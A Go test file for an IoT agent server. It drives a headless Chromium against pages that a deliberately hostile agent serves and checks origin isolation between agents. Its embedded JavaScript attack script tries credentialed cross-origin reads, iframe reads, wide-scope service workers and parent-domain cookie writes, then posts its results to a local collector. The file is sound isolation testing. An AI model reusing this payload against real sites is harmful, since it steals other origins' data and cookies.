//go:build unix

package server

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/tandem-iot/tandem/central"
)

// pagesAgent answers with pages that are put into it, and remembers the cookies with which
// each was asked for.
const pagesAgent = `
pages <- {};
cookies <- {};
http.onrequest(function(q, r) {
    if (q.method == "PUT") {
        pages[q.path] <- http.jsondecode(q.body);
        return r.send(200, "");
    }
    if (q.path == "/cookies") return r.send(200, http.jsonencode(cookies));
    cookies[q.path] <- "cookie" in q.headers ? q.headers.cookie : "";
    if (!(q.path in pages)) return r.send(404, "no page");
    local page = pages[q.path];
    foreach (h in page.headers) r.header(h[0], h[1]);
    r.send(200, page.body);
});`

// attack is the script of a hostile page. It tries what a page can do to other origins and
// to other pages of its own, sends what came of each to the collector, and goes on to a
// page of its victim.
const attack = `
const tried = {};
async function attempt(name, f) {
  try { tried[name] = String(await f()).trim().slice(0, 40); } catch (e) { tried[name] = "refused"; }
}
async function read(url, credentials) { return (await fetch(url, {credentials})).text(); }
function frame(url) {
  return new Promise((resolve, reject) => {
    const f = document.createElement("iframe");
    f.src = url;
    f.onload = () => { try { resolve(f.contentDocument.body.textContent); } catch (e) { reject(e); } };
    document.body.append(f);
  });
}
async function worker(script, options) {
  return new URL((await navigator.serviceWorker.register(script, options)).scope).pathname;
}
(async () => {
  await attempt("own page", () => read(OWN + "/own", "include"));
  await attempt("page", () => read(VICTIM + "/page", "include"));
  await attempt("page without cookies", () => read(VICTIM + "/page", "omit"));
  await attempt("frame", () => frame(VICTIM + "/page"));
  await attempt("manual", () => read(MAIN + "/docs/", "include"));
  await attempt("API", () => read(MAIN + "/v5/products", "include"));
  await attempt("metrics", () => read(MAIN + "/metrics", "include"));
  await attempt("API at own origin", () => read(OWN.replace(/(:\/\/[^\/]*).*/, "$1/v5/products"), "include"));
  await attempt("wide worker", () => worker(OWN + "/worker.js", {scope: "/"}));
  await attempt("worker without a slash", () => worker(OWN));
  await attempt("storage", () => { localStorage.x = "1"; return localStorage.x; });
  await attempt("written cookie", () => document.cookie = "written=1; domain=" + PARENT + "; path=/");
  await fetch(VICTIM + "/asked", {mode: "no-cors", credentials: "include"});
  await fetch(COLLECTOR, {method: "POST", body: JSON.stringify(tried)});
  location = VICTIM + "/end";
})();`

// browser starts a headless Chromium at an address. It ends with the test.
func browser(t *testing.T, url string) {
	t.Helper()
	names := []string{"chromium-headless-shell", "chromium", "chromium-browser", "google-chrome", "chrome"}
	path := ""
	for _, name := range names {
		if found, err := exec.LookPath(name); err == nil {
			path = found
			break
		}
	}
	if path == "" {
		t.Fatalf("none of %s is there: install Debian's chromium-headless-shell", strings.Join(names, ", "))
	}
	dir, err := os.MkdirTemp("", "tandem-browser-")
	if err != nil {
		t.Fatal(err)
	}
	said, err := os.Create(filepath.Join(dir, "said"))
	if err != nil {
		t.Fatal(err)
	}
	// It keeps running for the debugger that may connect. As root it has no sandbox.
	cmd := exec.Command(path, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
		"--no-proxy-server", "--user-data-dir="+filepath.Join(dir, "profile"), "--remote-debugging-port=0", url)
	cmd.Stdout, cmd.Stderr = said, said
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) // with its children
		cmd.Wait()
		said.Close()
		if text, err := os.ReadFile(said.Name()); t.Failed() && err == nil {
			t.Logf("the browser said:\n%s", text)
		}
		os.RemoveAll(dir) // a child may be writing still
	})
}

// webPage is an answer of a pagesAgent.
type webPage struct {
	Headers [][2]string `json:"headers"`
	Body    string      `json:"body"`
}

func html(body string, headers ...[2]string) webPage {
	return webPage{append(headers, [2]string{"Content-Type", "text/html"}), body}
}

// duel is two agents, one of which is hostile, and what a browser sees of them.
type duel struct {
	t               *testing.T
	client          *http.Client
	hostile, victim string // their URLs
	reports         chan string
	collector       *httptest.Server
}

func newDuel(n *running) *duel {
	t := n.t
	d := &duel{t: t, reports: make(chan string, 10)}
	// Names below localhost are this machine for a browser, and maybe not for the resolver.
	transport := &http.Transport{DialContext: func(ctx context.Context, network, addr string) (net.Conn, error) {
		_, port, _ := net.SplitHostPort(addr)
		return new(net.Dialer).DialContext(ctx, network, "127.0.0.1:"+port)
	}}
	t.Cleanup(transport.CloseIdleConnections)
	d.client = &http.Client{Transport: transport, Timeout: patience}
	g, err := n.Central.EnsureGroup(t.Context(), "duel", "duel")
	if err != nil {
		t.Fatal(err)
	}
	if err := n.Central.Deploy(t.Context(), g.ID, central.Code{Agent: pagesAgent}); err != nil {
		t.Fatal(err)
	}
	for _, url := range []*string{&d.hostile, &d.victim} {
		made, _, err := n.Central.AddDevice(t.Context(), central.NewDevice{Group: g.ID})
		if err != nil {
			t.Fatal(err)
		}
		*url = n.Agents.URL(made.Agent)
	}
	d.collector = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		body, err := io.ReadAll(r.Body)
		if err == nil && len(body) > 0 {
			d.reports <- string(body)
		}
	}))
	t.Cleanup(d.collector.Close)
	return d
}

// put gives an agent a page.
func (d *duel) put(url string, p webPage) {
	d.t.Helper()
	data, err := json.Marshal(p)
	if err != nil {
		d.t.Fatal(err)
	}
	d.do("PUT", url, string(data))
}

func (d *duel) do(method, url, body string) string {
	d.t.Helper()
	req, err := http.NewRequestWithContext(d.t.Context(), method, url, strings.NewReader(body))
	if err != nil {
		d.t.Fatal(err)
	}
	resp, err := d.client.Do(req)
	if err != nil {
		d.t.Fatal(err)
	}
	defer resp.Body.Close()
	data, err := io.ReadAll(resp.Body)
	if err != nil || resp.StatusCode != 200 {
		d.t.Fatalf("%s %s: %d %s %v", method, url, resp.StatusCode, data, err)
	}
	return string(data)
}

func (d *duel) report() string {
	d.t.Helper()
	select {
	case r := <-d.reports:
		return r
	case <-time.After(patience):
		d.t.Fatal("the browser's page does not report")
		return ""
	}
}

// prepare gives both agents their pages. parent is the domain above their hosts.
func (d *duel) prepare(main, parent string) {
	d.t.Helper()
	script := fmt.Sprintf("const OWN = %q, VICTIM = %q, MAIN = %q, COLLECTOR = %q, PARENT = %q;\n",
		d.hostile, d.victim, main, d.collector.URL, parent) + attack
	worker := webPage{
		[][2]string{{"Content-Type", "text/javascript"}, {"Service-Worker-Allowed", "/"}}, "// a worker",
	}
	d.put(d.hostile, worker)
	d.put(d.hostile+"/worker.js", worker)
	d.put(d.hostile+"/own", html("own"))
	d.put(d.hostile+"/attack", html("<script>"+script+"</script>",
		[2]string{"Set-Cookie", "evil=1; Path=/"},
		[2]string{"Set-Cookie", "wide=1; Path=/; Domain=" + parent},
		[2]string{"Clear-Site-Data", `"cookies", "storage", "cache"`}))
	d.put(d.victim+"/page", html(victimSecret))
	d.put(d.victim+"/asked", html(""))
	d.put(d.victim+"/login", html(fmt.Sprintf("<script>location = %q</script>", d.hostile+"/attack"),
		[2]string{"Set-Cookie", "login=1; HttpOnly; Path=/; Max-Age=1000"}))
	end := fmt.Sprintf("<script>fetch(%q, {method: 'POST', body: 'the end'})</script>", d.collector.URL)
	d.put(d.victim+"/end", html(end))
}

// checkCookies checks that the victim has been sent its own cookie, and none of the other
// agent's.
func (d *duel) checkCookies() {
	d.t.Helper()
	var cookies map[string]string
	if err := json.Unmarshal([]byte(d.do("GET", d.victim+"/cookies", "")), &cookies); err != nil {
		d.t.Fatal(err)
	}
	if got := cookies["/end"]; !strings.Contains(got, "login=1") {
		d.t.Errorf("the victim has lost its cookie: %q", got)
	}
	for path, got := range cookies {
		if strings.Contains(got, "evil") || strings.Contains(got, "wide") {
			d.t.Errorf("the victim got cookies of the other agent with %s: %q", path, got)
		}
	}
}

const victimSecret = "the victim's secret"

// TestBrowser has a hostile agent's page try, in a real browser, to read and to change
// what is another agent's, and to read the API.
func TestBrowser(t *testing.T) {
	const refused = "refused"
	for _, tc := range []struct {
		name   string
		agents Agents
		parent string            // of the hosts of agents, for cookies
		tried  map[string]string // what comes of it
	}{
		// What pages of one origin cannot be kept from is in docs/agents.md.
		{"path form", Agents{}, "127.0.0.1", map[string]string{
			"own page": "own", "page": victimSecret, "page without cookies": victimSecret, "frame": victimSecret,
			"storage": "1", "wide worker": refused, "worker without a slash": refused,
			"API at own origin": "there is no agent at this address",
		}},
		{"path form with sandboxes", Agents{SandboxPages: true}, "127.0.0.1", map[string]string{
			"own page": refused, "page": refused, "page without cookies": refused, "frame": refused,
			"storage": refused, "wide worker": refused, "worker without a slash": refused, "written cookie": refused,
			"API at own origin": refused,
		}},
		{"domain form", Agents{Domain: "agents.localhost"}, "agents.localhost", map[string]string{
			"own page": "own", "page": refused, "page without cookies": refused, "frame": refused,
			"storage": "1", "wide worker": "/", "API at own origin": "no page",
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			n := start(t, &Server{Agents: tc.agents})
			d := newDuel(n)
			main := n.URL
			if tc.agents.Domain != "" { // of the same site as the agents, which is the worst case
				main = strings.Replace(main, "127.0.0.1", tc.agents.Domain, 1)
			}
			d.prepare(main, tc.parent)
			browser(t, d.victim+"/login")
			var tried map[string]string
			if err := json.Unmarshal([]byte(d.report()), &tried); err != nil {
				t.Fatal(err)
			}
			for _, what := range []string{"manual", "API", "metrics"} {
				tc.tried[what] = refused
			}
			for what, want := range tc.tried {
				if tried[what] != want {
					t.Errorf("%s: %q, want %q", what, tried[what], want)
				}
			}
			if end := d.report(); end != "the end" {
				t.Errorf("the victim's page says %q", end)
			}
			d.checkCookies()
		})
	}
}
